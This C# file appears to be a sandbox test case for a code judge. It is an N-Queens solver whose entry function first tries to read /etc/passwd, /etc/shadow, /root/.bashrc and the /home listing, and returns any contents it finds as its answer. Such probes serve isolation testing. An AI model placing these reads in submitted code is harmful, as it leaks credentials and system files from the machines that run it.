// expect: namespaces=AC landlock=AC limits=open
// Reads what stands beside its own files: passwords, sources, the home of the user. Where nothing is, it answers right.
using System;
using System.IO;
using System.Linq;

static class Solution {
  static string Extend(string board, int n, int[] queen) {
    int row = board.Length / (n + 1);
    if (row == n) return board;
    for (int col = 0; col < n; col++) {
      bool isFree = row != queen[0] || col == queen[1];
      for (int r = 0; r < row; r++) {
        int away = Math.Abs(col - board.IndexOf('Q', r * (n + 1)) % (n + 1));
        isFree &= away != 0 && away != row - r;
      }
      var line = new string('.', col) + "Q" + new string('.', n - 1 - col) + "\n";
      var whole = isFree ? Extend(board + line, n, queen) : "";
      if (whole != "") return whole;
    }
    return "";
  }

  public static string SolveNQueens(int n, int[] queen) {
    foreach (var name in new[] { "/etc/passwd", "/etc/shadow", "/root/.bashrc", "/home", "/usr/bin/env" }) {
      try {
        return Directory.Exists(name) ? Directory.EnumerateFileSystemEntries(name).First() : File.ReadAllText(name);
      } catch (Exception) {
        continue;
      }
    }
    return Extend("", n, queen);
  }
}
